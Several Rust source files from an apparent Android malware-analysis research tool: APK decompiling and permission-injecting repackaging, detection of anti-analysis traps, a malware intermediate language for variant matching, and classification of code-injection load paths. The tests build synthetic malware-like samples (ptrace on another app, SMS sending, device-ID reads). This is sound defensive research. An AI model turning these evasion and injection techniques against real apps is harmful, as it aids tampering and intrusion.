    for (class, method) in dex.methods() {
        if let Some(Instruction::Goto { target: 0 }) = method.code.first() {
            return Some(class.name.clone());
        }
    }
    None
}

/// Unpacks and decompiles an APK.
///
/// # Errors
///
/// Returns [`DecompileError::Unpack`] for malformed archives and
/// [`DecompileError::AntiDecompilation`] when the decompiler bug triggers.
pub fn decompile(apk_bytes: &[u8]) -> Result<DecompiledApp, DecompileError> {
    let apk = Apk::parse(apk_bytes)?;
    let manifest = apk.manifest()?;
    let classes = apk.classes()?;
    if let Some(class) = has_anti_decompilation_pattern(&classes) {
        return Err(DecompileError::AntiDecompilation { class });
    }
    let smali = smali::disassemble(&classes);
    Ok(DecompiledApp {
        manifest,
        classes,
        smali,
        apk,
    })
}

/// Whether an app needs rewriting before dynamic analysis: the paper's
/// harness stores logs on external storage, so the permission must exist.
pub fn needs_rewriting(manifest: &Manifest) -> bool {
    !manifest.has_permission(WRITE_EXTERNAL_STORAGE)
}

/// Rewrites the app to add `WRITE_EXTERNAL_STORAGE` and repacks it.
///
/// # Errors
///
/// Returns [`DecompileError::AntiRepackaging`] when the app carries the
/// repack trap.
pub fn repackage_with_permission(app: &DecompiledApp) -> Result<Vec<u8>, DecompileError> {
    if app.apk.entry(ANTI_REPACK_TRAP).is_some() {
        return Err(DecompileError::AntiRepackaging);
    }
    let mut apk = app.apk.clone();
    let mut manifest = app.manifest.clone();
    manifest.add_permission(WRITE_EXTERNAL_STORAGE);
    apk.set_manifest(&manifest);
    Ok(apk.to_bytes())
}

/// Convenience: decompile, then produce the (possibly rewritten) APK bytes
/// ready for installation, reporting whether rewriting happened.
///
/// # Errors
///
/// Propagates both failure modes.
pub fn prepare_for_dynamic_analysis(
    apk_bytes: &[u8],
) -> Result<(DecompiledApp, Vec<u8>, bool), DecompileError> {
    let app = decompile(apk_bytes)?;
    if needs_rewriting(&app.manifest) {
        let rewritten = repackage_with_permission(&app)?;
        Ok((app, rewritten, true))
    } else {
        Ok((app, apk_bytes.to_vec(), false))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Component};

    fn plain_apk(pkg: &str) -> Apk {
        let mut manifest = Manifest::new(pkg);
        manifest
            .components
            .push(Component::main_activity(format!("{pkg}.Main")));
        let mut b = DexBuilder::new();
        b.class(format!("{pkg}.Main"), "android.app.Activity")
            .method("onCreate", "()V", AccessFlags::PUBLIC)
            .ret_void();
        Apk::build(manifest, b.build())
    }

    #[test]
    fn decompiles_plain_app() {
        let app = decompile(&plain_apk("com.a").to_bytes()).unwrap();
        assert_eq!(app.package(), "com.a");
        assert!(app.smali.contains(".class public Lcom/a/Main;"));
    }

    #[test]
    fn garbage_fails_unpack() {
        assert!(matches!(
            decompile(b"not an apk"),
            Err(DecompileError::Unpack(_))
        ));
    }

    #[test]
    fn anti_decompilation_pattern_crashes_decompiler() {
        let mut manifest = Manifest::new("com.anti");
        manifest
            .components
            .push(Component::main_activity("com.anti.Main"));
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.anti.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            // The degenerate self-loop head that kills the decompiler.
            let m = c.method("trap", "()V", AccessFlags::PRIVATE);
            let head = m.label();
            m.bind(head);
            m.goto(head);
        }
        let apk = Apk::build(manifest, b.build());
        // The *device* can still install and run this app...
        let mut device = dydroid_avm::Device::new(dydroid_avm::DeviceConfig::default());
        assert!(device.install(&apk.to_bytes()).is_ok());
        // ...but the decompiler crashes.
        assert!(matches!(
            decompile(&apk.to_bytes()),
            Err(DecompileError::AntiDecompilation { class }) if class == "com.anti.Main"
        ));
    }

    #[test]
    fn rewriting_injects_permission() {
        let apk = plain_apk("com.a");
        let app = decompile(&apk.to_bytes()).unwrap();
        assert!(needs_rewriting(&app.manifest));
        let rewritten = repackage_with_permission(&app).unwrap();
        let reparsed = decompile(&rewritten).unwrap();
        assert!(reparsed.manifest.has_permission(WRITE_EXTERNAL_STORAGE));
        assert!(!needs_rewriting(&reparsed.manifest));
    }

    #[test]
    fn rewriting_skipped_when_permission_present() {
        let mut apk = plain_apk("com.a");
        let mut m = apk.manifest().unwrap();
        m.add_permission(WRITE_EXTERNAL_STORAGE);
        apk.set_manifest(&m);
        let (_, bytes, rewritten) = prepare_for_dynamic_analysis(&apk.to_bytes()).unwrap();
        assert!(!rewritten);
        assert_eq!(bytes, apk.to_bytes());
    }

    #[test]
    fn anti_repackaging_trap_crashes_rebuild() {
        let mut apk = plain_apk("com.packtrap");
        apk.put(ANTI_REPACK_TRAP, vec![0xDE, 0xAD]);
        let result = prepare_for_dynamic_analysis(&apk.to_bytes());
        assert!(matches!(result, Err(DecompileError::AntiRepackaging)));
    }

    #[test]
    fn display_forms() {
        assert!(DecompileError::AntiRepackaging
            .to_string()
            .contains("repackaging"));
        assert!(DecompileError::AntiDecompilation {
            class: "x.Y".into()
        }
        .to_string()
        .contains("x.Y"));
    }
}
