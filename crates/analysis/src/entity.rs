//! Responsible-entity identification (own vs. third-party).
//!
//! As in the paper (Figure 2): each app has a unique application package
//! name containing the developer's classes; third-party libraries live in
//! other package namespaces. The call-site class of a DCL event therefore
//! attributes the load.

use serde::{Deserialize, Serialize};

/// Who launched a DCL event.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Entity {
    /// The app developer's own code.
    Own,
    /// A bundled third-party SDK or library.
    ThirdParty,
}

/// Classifies a call-site class against the app's package name.
///
/// A class belongs to the developer when it sits in the application
/// package or a subpackage of it (`com.example.app.ui.X` is "own" for
/// package `com.example.app`).
pub fn classify(app_package: &str, call_site_class: &str) -> Entity {
    if call_site_class == app_package {
        return Entity::Own;
    }
    if let Some(rest) = call_site_class.strip_prefix(app_package) {
        if rest.starts_with('.') {
            return Entity::Own;
        }
    }
    Entity::ThirdParty
}

/// Aggregate attribution for an app: which entities launched DCL.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct EntityMix {
    /// At least one load from the developer's own classes.
    pub own: bool,
    /// At least one load from third-party classes.
    pub third_party: bool,
}

impl EntityMix {
    /// Folds one classified call site into the mix.
    pub fn add(&mut self, entity: Entity) {
        match entity {
            Entity::Own => self.own = true,
            Entity::ThirdParty => self.third_party = true,
        }
    }

    /// Builds a mix from an app package and call-site classes.
    pub fn from_call_sites<'a>(
        app_package: &str,
        call_sites: impl IntoIterator<Item = &'a str>,
    ) -> Self {
        let mut mix = EntityMix::default();
        for cs in call_sites {
            mix.add(classify(app_package, cs));
        }
        mix
    }

    /// Whether both entities appear (the "3rd-party & Own" column of
    /// Table IV).
    pub fn both(self) -> bool {
        self.own && self.third_party
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn own_package_classified() {
        assert_eq!(
            classify("com.example.app", "com.example.app.Main"),
            Entity::Own
        );
        assert_eq!(classify("com.example.app", "com.example.app"), Entity::Own);
        assert_eq!(
            classify("com.example.app", "com.example.app.ui.Loader"),
            Entity::Own
        );
    }

    #[test]
    fn third_party_classified() {
        assert_eq!(
            classify("com.example.app", "com.google.ads.AdLoader"),
            Entity::ThirdParty
        );
        assert_eq!(
            classify("com.example.app", "com.baidu.mobads.Remote"),
            Entity::ThirdParty
        );
    }

    #[test]
    fn prefix_collision_is_not_own() {
        // com.example.appother is NOT a subpackage of com.example.app.
        assert_eq!(
            classify("com.example.app", "com.example.appother.X"),
            Entity::ThirdParty
        );
    }

    #[test]
    fn mix_aggregation() {
        let mix = EntityMix::from_call_sites("com.a", ["com.a.Main", "com.ads.Loader"]);
        assert!(mix.own && mix.third_party && mix.both());

        let only_third = EntityMix::from_call_sites("com.a", ["com.ads.Loader", "com.other.Y"]);
        assert!(!only_third.own && only_third.third_party && !only_third.both());

        let empty = EntityMix::from_call_sites("com.a", []);
        assert!(!empty.own && !empty.third_party);
    }
}
