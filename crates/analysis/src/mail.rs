//! MAIL — the Malware Analysis Intermediate Language (after Alam et al.).
//!
//! Both DEX bytecode and native pseudo-code translate into a common,
//! platform-independent statement stream that keeps exactly what the
//! detector needs: control-flow structure and call/syscall patterns,
//! while erasing registers, constants and addresses (malware variants
//! differ only in those, as the paper observes: "the identified testing
//! samples only differ from the matched malicious samples in the memory
//! addresses").

use std::fmt;

use dydroid_dex::{DexFile, Instruction, NativeInsn, NativeLibrary};
use serde::{Deserialize, Serialize};

/// One MAIL statement kind. Variants deliberately drop operands that vary
/// across malware variants.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum MailStmt {
    /// Data movement / arithmetic (registers and constants erased).
    Assign,
    /// Allocation of a platform type.
    New(String),
    /// Call into the app's own code (callee identity erased — variants
    /// rename internal classes).
    Call,
    /// Call into a platform library API (identity kept — it is the
    /// behavioural fingerprint).
    LibCall(String),
    /// OS-level effect (native code).
    Syscall(String),
    /// Unconditional control transfer.
    Jump,
    /// Conditional control transfer.
    CondJump,
    /// Function exit (returns and throws).
    Return,
}

/// A translated statement plus its control-flow metadata.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MailInsn {
    /// The statement.
    pub stmt: MailStmt,
    /// Branch target (absolute index), for jumps.
    pub target: Option<u32>,
    /// Whether control can continue to the next statement.
    pub falls_through: bool,
}

/// A function in MAIL form.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct MailFunction {
    /// Identifier (`class->method` or native symbol).
    pub name: String,
    /// Statement stream.
    pub code: Vec<MailInsn>,
}

impl fmt::Display for MailStmt {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            MailStmt::Assign => write!(f, "ASSIGN"),
            MailStmt::New(class) => write!(f, "NEW {class}"),
            MailStmt::Call => write!(f, "CALL <local>"),
            MailStmt::LibCall(api) => write!(f, "LIBCALL {api}"),
            MailStmt::Syscall(name) => write!(f, "SYSCALL {name}"),
            MailStmt::Jump => write!(f, "JMP"),
            MailStmt::CondJump => write!(f, "CJMP"),
            MailStmt::Return => write!(f, "RET"),
        }
    }
}

impl fmt::Display for MailFunction {
    /// Renders the function in a readable MAIL listing, with branch
    /// targets as `-> N` suffixes — DroidNative-style debug output.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "func {} {{", self.name)?;
        for (i, insn) in self.code.iter().enumerate() {
            write!(f, "  {i:>4}: {}", insn.stmt)?;
            if let Some(t) = insn.target {
                write!(f, " -> {t}")?;
            }
            writeln!(f)?;
        }
        write!(f, "}}")
    }
}

/// Renders a whole binary's MAIL listing.
pub fn render(functions: &[MailFunction]) -> String {
    functions
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join("\n\n")
}

/// A binary that can be translated to MAIL: the two shapes DyDroid
/// intercepts.
#[derive(Debug, Clone, PartialEq)]
pub enum CodeBinary {
    /// DEX bytecode.
    Dex(DexFile),
    /// A native library.
    Native(NativeLibrary),
}

impl CodeBinary {
    /// Parses intercepted bytes as either format.
    ///
    /// # Errors
    ///
    /// Returns the DEX parse error when neither format matches.
    pub fn from_bytes(data: &[u8]) -> Result<Self, dydroid_dex::DexError> {
        match DexFile::parse(data) {
            Ok(dex) => Ok(CodeBinary::Dex(dex)),
            Err(dex_err) => match NativeLibrary::parse(data) {
                Ok(lib) => Ok(CodeBinary::Native(lib)),
                Err(_) => Err(dex_err),
            },
        }
    }

    /// Whether this is native code.
    pub fn is_native(&self) -> bool {
        matches!(self, CodeBinary::Native(_))
    }

    /// Translates the binary to MAIL functions.
    pub fn to_mail(&self) -> Vec<MailFunction> {
        match self {
            CodeBinary::Dex(dex) => translate_dex(dex),
            CodeBinary::Native(lib) => translate_native(lib),
        }
    }
}

fn is_platform(class: &str) -> bool {
    class.starts_with("java.")
        || class.starts_with("javax.")
        || class.starts_with("android.")
        || class.starts_with("dalvik.")
        || class.starts_with("com.android.")
}

/// Translates every method of a DEX file.
pub fn translate_dex(dex: &DexFile) -> Vec<MailFunction> {
    dex.methods()
        .filter(|(_, m)| m.has_code())
        .map(|(c, m)| MailFunction {
            name: format!("{}->{}", c.name, m.name),
            code: m.code.iter().map(translate_dex_insn).collect(),
        })
        .collect()
}

fn translate_dex_insn(insn: &Instruction) -> MailInsn {
    let (stmt, target) = match insn {
        Instruction::Invoke { method, .. } => {
            if is_platform(&method.class) {
                (
                    MailStmt::LibCall(format!("{}.{}", method.class, method.name)),
                    None,
                )
            } else {
                (MailStmt::Call, None)
            }
        }
        Instruction::NewInstance { class, .. } if is_platform(class) => {
            (MailStmt::New(class.clone()), None)
        }
        Instruction::IfZero { target, .. } | Instruction::IfCmp { target, .. } => {
            (MailStmt::CondJump, Some(*target))
        }
        Instruction::Goto { target } => (MailStmt::Jump, Some(*target)),
        Instruction::ReturnVoid | Instruction::Return { .. } | Instruction::Throw { .. } => {
            (MailStmt::Return, None)
        }
        _ => (MailStmt::Assign, None),
    };
    MailInsn {
        stmt,
        target,
        falls_through: insn.falls_through(),
    }
}

/// Translates every function of a native library.
pub fn translate_native(lib: &NativeLibrary) -> Vec<MailFunction> {
    lib.functions
        .iter()
        .filter(|f| !f.code.is_empty())
        .map(|f| {
            let local: Vec<&str> = lib.functions.iter().map(|g| g.name.as_str()).collect();
            MailFunction {
                name: f.name.clone(),
                code: f
                    .code
                    .iter()
                    .map(|i| translate_native_insn(i, &local))
                    .collect(),
            }
        })
        .collect()
}

fn translate_native_insn(insn: &NativeInsn, local_symbols: &[&str]) -> MailInsn {
    let (stmt, target) = match insn {
        NativeInsn::Call { symbol } => {
            if local_symbols.contains(&symbol.as_str()) {
                (MailStmt::Call, None)
            } else {
                (MailStmt::LibCall(symbol.clone()), None)
            }
        }
        NativeInsn::Syscall { name, .. } => (MailStmt::Syscall(name.clone()), None),
        NativeInsn::Jump { target } => (MailStmt::Jump, Some(*target)),
        NativeInsn::Branch { target, .. } => (MailStmt::CondJump, Some(*target)),
        NativeInsn::Ret => (MailStmt::Return, None),
        _ => (MailStmt::Assign, None),
    };
    MailInsn {
        stmt,
        target,
        falls_through: insn.falls_through(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::native::{Arch, NativeFunction};
    use dydroid_dex::{AccessFlags, CmpKind, MethodRef};

    #[test]
    fn dex_translation_shapes() {
        let mut b = DexBuilder::new();
        let c = b.class("com.m.X", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC);
        m.registers(4);
        m.const_int(0, 5);
        let end = m.label();
        m.if_zero(CmpKind::Eq, 0, end);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.invoke_static(MethodRef::new("com.m.Y", "helper", "()V"), vec![]);
        m.bind(end);
        m.ret_void();
        let funcs = translate_dex(&b.build());
        assert_eq!(funcs.len(), 1);
        let stmts: Vec<&MailStmt> = funcs[0].code.iter().map(|i| &i.stmt).collect();
        assert_eq!(stmts[0], &MailStmt::Assign);
        assert_eq!(stmts[1], &MailStmt::CondJump);
        assert_eq!(
            stmts[2],
            &MailStmt::LibCall("android.telephony.TelephonyManager.getDeviceId".to_string())
        );
        assert_eq!(stmts[3], &MailStmt::Call);
        assert_eq!(stmts[4], &MailStmt::Return);
        assert_eq!(funcs[0].code[1].target, Some(4));
    }

    #[test]
    fn native_translation_shapes() {
        let lib = NativeLibrary::new("libm.so", Arch::Arm)
            .with_function(NativeFunction::exported(
                "JNI_OnLoad",
                vec![
                    NativeInsn::Syscall {
                        name: "ptrace".to_string(),
                        arg: Some("com.tencent.mm".to_string()),
                    },
                    NativeInsn::Call {
                        symbol: "helper".to_string(),
                    },
                    NativeInsn::Call {
                        symbol: "dlopen".to_string(),
                    },
                    NativeInsn::Ret,
                ],
            ))
            .with_function(NativeFunction::local("helper", vec![NativeInsn::Ret]));
        let funcs = translate_native(&lib);
        assert_eq!(funcs.len(), 2);
        let stmts: Vec<&MailStmt> = funcs[0].code.iter().map(|i| &i.stmt).collect();
        assert_eq!(stmts[0], &MailStmt::Syscall("ptrace".to_string()));
        assert_eq!(stmts[1], &MailStmt::Call);
        assert_eq!(stmts[2], &MailStmt::LibCall("dlopen".to_string()));
        assert_eq!(stmts[3], &MailStmt::Return);
    }

    #[test]
    fn variants_translate_identically() {
        // Two "variants": same structure, different constants/registers.
        let build = |konst: i64, reg: u16| {
            let mut b = DexBuilder::new();
            let c = b.class("com.m.V", "java.lang.Object");
            let m = c.method("f", "()V", AccessFlags::PUBLIC);
            m.registers(8);
            m.const_int(reg, konst);
            m.invoke_static(
                MethodRef::new(
                    "android.telephony.SmsManager",
                    "sendTextMessage",
                    "(Ljava/lang/String;Ljava/lang/String;)V",
                ),
                vec![reg, reg],
            );
            m.ret_void();
            translate_dex(&b.build())
        };
        assert_eq!(build(1, 0), build(999, 5));
    }

    #[test]
    fn display_renders_listing() {
        let lib = NativeLibrary::new("libm.so", Arch::Arm).with_function(NativeFunction::exported(
            "JNI_OnLoad",
            vec![
                NativeInsn::Syscall {
                    name: "ptrace".to_string(),
                    arg: None,
                },
                NativeInsn::Jump { target: 0 },
            ],
        ));
        let funcs = translate_native(&lib);
        let text = render(&funcs);
        assert!(text.contains("func JNI_OnLoad {"));
        assert!(text.contains("SYSCALL ptrace"));
        assert!(text.contains("JMP -> 0"));
        assert_eq!(MailStmt::Return.to_string(), "RET");
        assert_eq!(
            MailStmt::LibCall("a.B.c".to_string()).to_string(),
            "LIBCALL a.B.c"
        );
    }

    #[test]
    fn from_bytes_dispatches_by_format() {
        let dex = DexFile::new().to_bytes();
        assert!(!CodeBinary::from_bytes(&dex).unwrap().is_native());
        let lib = NativeLibrary::new("l.so", Arch::X86).to_bytes();
        assert!(CodeBinary::from_bytes(&lib).unwrap().is_native());
        assert!(CodeBinary::from_bytes(b"junk").is_err());
    }
}
