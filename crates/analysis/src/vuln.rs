//! Code-injection vulnerability classification (Table IX).
//!
//! An app loading code from a location writable by other parties is open
//! to code injection. Two categories, as in the paper:
//!
//! 1. **external storage** — world-writable before Android 4.4; flagged
//!    only when the app's manifest supports pre-KitKat OS versions
//!    (`minSdkVersion < 19`), which the paper verified manually;
//! 2. **internal storage of other apps** — the paper's new variant: the
//!    load path sits inside `/data/data/<otherPkg>/…`.

use dydroid_avm::paths;
use dydroid_dex::Manifest;
use serde::{Deserialize, Serialize};

/// A vulnerable DCL location category.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum VulnKind {
    /// Loading from world-writable external storage while supporting
    /// pre-4.4 devices.
    ExternalStorage,
    /// Loading from another app's private internal storage.
    ForeignInternalStorage {
        /// The package whose storage the file lives in.
        provider: String,
    },
}

/// Classifies one loaded path for the app `package` with `manifest`.
/// Returns `None` for safe locations (own internal storage, system paths).
pub fn classify(package: &str, manifest: &Manifest, loaded_path: &str) -> Option<VulnKind> {
    if paths::is_system(loaded_path) {
        return None;
    }
    if paths::is_external(loaded_path) {
        // Post-KitKat-only apps are not exposed (writes need a permission
        // and the paper scopes the category to < 4.4 support).
        if manifest.supports_pre_kitkat() {
            return Some(VulnKind::ExternalStorage);
        }
        return None;
    }
    if let Some(owner) = paths::internal_owner(loaded_path) {
        if owner != package {
            return Some(VulnKind::ForeignInternalStorage {
                provider: owner.to_string(),
            });
        }
    }
    None
}

/// Classifies every loaded path of an app, deduplicated by kind.
pub fn classify_all<'a>(
    package: &str,
    manifest: &Manifest,
    loaded_paths: impl IntoIterator<Item = &'a str>,
) -> Vec<VulnKind> {
    let mut out: Vec<VulnKind> = Vec::new();
    for path in loaded_paths {
        if let Some(kind) = classify(package, manifest, path) {
            if !out.contains(&kind) {
                out.push(kind);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn manifest(min_sdk: u32) -> Manifest {
        let mut m = Manifest::new("com.victim");
        m.min_sdk = min_sdk;
        m
    }

    #[test]
    fn external_storage_pre_kitkat_flagged() {
        let kind = classify(
            "com.victim",
            &manifest(14),
            "/mnt/sdcard/im_sdk/jar/payload.jar",
        );
        assert_eq!(kind, Some(VulnKind::ExternalStorage));
    }

    #[test]
    fn external_storage_post_kitkat_not_flagged() {
        let kind = classify("com.victim", &manifest(19), "/mnt/sdcard/x.jar");
        assert_eq!(kind, None);
    }

    #[test]
    fn foreign_internal_storage_flagged() {
        let kind = classify(
            "com.victim",
            &manifest(14),
            "/data/data/com.adobe.air/files/libCore.so",
        );
        assert_eq!(
            kind,
            Some(VulnKind::ForeignInternalStorage {
                provider: "com.adobe.air".to_string()
            })
        );
    }

    #[test]
    fn own_internal_storage_safe() {
        assert_eq!(
            classify(
                "com.victim",
                &manifest(14),
                "/data/data/com.victim/cache/ad.dex"
            ),
            None
        );
    }

    #[test]
    fn system_paths_safe() {
        assert_eq!(
            classify("com.victim", &manifest(14), "/system/lib/libssl.so"),
            None
        );
    }

    #[test]
    fn classify_all_dedupes() {
        let m = manifest(14);
        let kinds = classify_all(
            "com.victim",
            &m,
            [
                "/mnt/sdcard/a.jar",
                "/mnt/sdcard/b.jar",
                "/data/data/com.other/files/x.so",
                "/data/data/com.victim/files/ok.dex",
            ],
        );
        assert_eq!(kinds.len(), 2);
        assert!(kinds.contains(&VulnKind::ExternalStorage));
        assert!(kinds.iter().any(|k| matches!(
            k,
            VulnKind::ForeignInternalStorage { provider } if provider == "com.other"
        )));
    }
}
