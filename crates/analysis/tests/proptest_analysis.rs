//! Property tests for the static analyses: totality over arbitrary valid
//! bytecode and the core invariants of the detectors.

use dydroid_analysis::acfg::{match_fraction, Acfg, BinarySig, BlockSig};
use dydroid_analysis::mail::{translate_dex, CodeBinary};
use dydroid_analysis::taint::TaintAnalysis;
use dydroid_analysis::{obfuscation, DclFilter};
use dydroid_dex::{
    AccessFlags, BinOp, ClassDef, CmpKind, DexFile, FieldRef, Instruction, InvokeKind, Method,
    MethodRef, MethodSig,
};
use proptest::prelude::*;

const REGS: u16 = 8;

fn reg() -> impl Strategy<Value = u16> {
    0..REGS
}

fn api() -> impl Strategy<Value = MethodRef> {
    prop::sample::select(vec![
        MethodRef::new(
            "android.telephony.TelephonyManager",
            "getDeviceId",
            "()Ljava/lang/String;",
        ),
        MethodRef::new(
            "android.util.Log",
            "d",
            "(Ljava/lang/String;Ljava/lang/String;)I",
        ),
        MethodRef::new(
            "android.content.ContentResolver",
            "query",
            "(Ljava/lang/String;)Ljava/lang/String;",
        ),
        MethodRef::new(
            "java.lang.String",
            "concat",
            "(Ljava/lang/String;)Ljava/lang/String;",
        ),
        MethodRef::new("app.Other", "helper", "(I)I"),
        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
        MethodRef::new(
            "android.telephony.SmsManager",
            "sendTextMessage",
            "(Ljava/lang/String;Ljava/lang/String;)V",
        ),
    ])
}

fn instruction(max_target: u32) -> impl Strategy<Value = Instruction> {
    let field = FieldRef::new("app.G", "f", "Ljava/lang/String;");
    prop_oneof![
        Just(Instruction::Nop),
        (reg(), any::<i64>()).prop_map(|(dst, value)| Instruction::Const { dst, value }),
        (
            reg(),
            prop::sample::select(vec![
                "content://sms/inbox",
                "content://contacts/x",
                "hello",
                "",
            ])
        )
            .prop_map(|(dst, s)| Instruction::ConstString {
                dst,
                value: s.to_string()
            }),
        (reg(), reg()).prop_map(|(dst, src)| Instruction::Move { dst, src }),
        reg().prop_map(|dst| Instruction::MoveResult { dst }),
        (api(), prop::collection::vec(reg(), 0..3)).prop_map(|(method, args)| {
            Instruction::Invoke {
                kind: InvokeKind::Static,
                method,
                args,
            }
        }),
        (reg(), reg()).prop_map({
            let field = field.clone();
            move |(dst, obj)| Instruction::IGet {
                dst,
                obj,
                field: field.clone(),
            }
        }),
        reg().prop_map({
            let field = field.clone();
            move |src| Instruction::SPut {
                src,
                field: field.clone(),
            }
        }),
        (reg(), 0..max_target).prop_map(|(reg, target)| Instruction::IfZero {
            cmp: CmpKind::Eq,
            reg,
            target
        }),
        (0..max_target).prop_map(|target| Instruction::Goto { target }),
        (reg(), reg(), reg()).prop_map(|(dst, a, b)| Instruction::BinOp {
            op: BinOp::Xor,
            dst,
            a,
            b
        }),
        Just(Instruction::ReturnVoid),
        reg().prop_map(|reg| Instruction::Return { reg }),
    ]
}

fn arb_dex(methods: Vec<Vec<Instruction>>) -> DexFile {
    let mut dex = DexFile::new();
    let mut class = ClassDef::new("app.Main", "java.lang.Object");
    for (i, raw) in methods.into_iter().enumerate() {
        let len = raw.len().max(1) as u32;
        let code: Vec<Instruction> = raw
            .into_iter()
            .map(|mut insn| {
                if let Some(t) = insn.branch_target() {
                    insn.set_branch_target(t % len);
                }
                insn
            })
            .collect();
        class.methods.push(Method {
            name: format!("m{i}"),
            sig: MethodSig::parse("()V").expect("valid"),
            flags: AccessFlags::PUBLIC,
            registers: REGS,
            code,
        });
    }
    dex.add_class(class);
    dex
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Every analysis is total over arbitrary valid bytecode.
    #[test]
    fn analyses_never_panic(
        methods in prop::collection::vec(
            prop::collection::vec(instruction(24), 1..24),
            1..4,
        )
    ) {
        let dex = arb_dex(methods);
        prop_assert!(dex.validate().is_ok());
        let _ = DclFilter::scan(&dex);
        let _ = obfuscation::detect_lexical(&dex);
        let _ = obfuscation::detect_reflection(&dex);
        let leaks = TaintAnalysis::new().run(&dex);
        // Leaks only name real types and real sinks.
        for leak in &leaks {
            prop_assert!(!leak.sink.is_empty());
            prop_assert!(leak.class.starts_with("app."));
        }
        let funcs = translate_dex(&dex);
        for f in &funcs {
            let acfg = Acfg::build(f);
            // Block count never exceeds instruction count.
            prop_assert!(acfg.len() <= f.code.len());
        }
    }

    /// `match_fraction` is a containment measure: bounded, reflexive and
    /// monotone under test-set growth.
    #[test]
    fn match_fraction_invariants(
        a in prop::collection::vec((any::<u64>(), 0u8..4), 1..20),
        b in prop::collection::vec((any::<u64>(), 0u8..4), 0..20),
    ) {
        let a: Vec<BlockSig> = a.into_iter().map(|(pattern, out_degree)| BlockSig { pattern, out_degree }).collect();
        let b: Vec<BlockSig> = b.into_iter().map(|(pattern, out_degree)| BlockSig { pattern, out_degree }).collect();
        let f = match_fraction(&a, &b);
        prop_assert!((0.0..=1.0).contains(&f));
        // Reflexive: a sample fully matches itself.
        prop_assert_eq!(match_fraction(&a, &a), 1.0);
        // Monotone: adding the training blocks to the test set gives 1.0.
        let mut superset = b.clone();
        superset.extend(a.iter().copied());
        prop_assert_eq!(match_fraction(&a, &superset), 1.0);
        prop_assert!(match_fraction(&a, &b) <= match_fraction(&a, &superset));
    }

    /// Binary signatures are stable across the binary encoding round trip
    /// (detection can run on re-parsed intercepted bytes).
    #[test]
    fn binary_sig_stable_across_encoding(
        methods in prop::collection::vec(
            prop::collection::vec(instruction(16), 1..16),
            1..3,
        )
    ) {
        let dex = arb_dex(methods);
        let sig1 = BinarySig::build(&CodeBinary::Dex(dex.clone()));
        let reparsed = DexFile::parse(&dex.to_bytes()).expect("round trip");
        let sig2 = BinarySig::build(&CodeBinary::Dex(reparsed));
        prop_assert_eq!(sig1, sig2);
    }

    /// The taint analysis is deterministic.
    #[test]
    fn taint_deterministic(
        methods in prop::collection::vec(
            prop::collection::vec(instruction(16), 1..16),
            1..3,
        )
    ) {
        let dex = arb_dex(methods);
        let taint = TaintAnalysis::new();
        prop_assert_eq!(taint.run(&dex), taint.run(&dex));
    }
}
