//! A running app process: class spaces, heap, statics, loaded native
//! libraries and liveness.

use std::collections::{HashMap, HashSet};

use dydroid_dex::{ClassDef, DexFile, Manifest, Method, NativeLibrary};

use crate::device::Device;
use crate::error::Exec;
use crate::events::Event;
use crate::heap::{Heap, Value};
use crate::interp::Vm;

/// A running application process.
///
/// `spaces[0]` holds the classes from `classes.dex`; each successful DCL
/// event appends another class space (mirroring one class loader per
/// loaded file). Classes are resolved across all spaces in load order.
#[derive(Debug)]
pub struct Process {
    /// Package of the app this process runs.
    pub package: String,
    /// Heap.
    pub heap: Heap,
    /// Static fields, keyed by `(class, field)`.
    pub statics: HashMap<(String, String), Value>,
    /// Class spaces: app classes plus dynamically loaded DEX files.
    pub spaces: Vec<DexFile>,
    /// Loaded native libraries, in load order.
    pub native_libs: Vec<NativeLibrary>,
    /// Whether the process is still running (false after a crash).
    pub alive: bool,
    /// Permissions copied from the manifest.
    pub permissions: HashSet<String>,
    /// Cumulative interpreter instructions retired across every entry
    /// point run in this process. The Monkey's per-app deadline watchdog
    /// reads this as a deterministic virtual clock.
    pub instructions_retired: u64,
}

impl Process {
    /// Creates a process with the app's primary class space.
    pub fn new(package: String, classes: DexFile, manifest: &Manifest) -> Self {
        Process {
            package,
            heap: Heap::new(),
            statics: HashMap::new(),
            spaces: vec![classes],
            native_libs: Vec::new(),
            alive: true,
            permissions: manifest.permissions.iter().cloned().collect(),
            instructions_retired: 0,
        }
    }

    /// Finds a class across all class spaces (load order).
    pub fn find_class(&self, name: &str) -> Option<&ClassDef> {
        self.spaces.iter().find_map(|s| s.class(name))
    }

    /// Resolves a method by walking the superclass chain starting at
    /// `class`. Returns the defining class name and a clone of the method
    /// (cloned so execution is independent of later space growth).
    pub fn resolve_method(&self, class: &str, name: &str) -> Option<(String, Method)> {
        let mut current = class.to_string();
        for _ in 0..32 {
            if let Some(def) = self.find_class(&current) {
                if let Some(m) = def.method_by_name(name) {
                    return Some((current, m.clone()));
                }
                if def.superclass == current {
                    return None;
                }
                current = def.superclass.clone();
            } else {
                return None;
            }
        }
        None
    }

    /// Executes one entry point with an explicit fuel budget, accounting
    /// retired instructions into [`Process::instructions_retired`].
    fn execute_entry(
        &mut self,
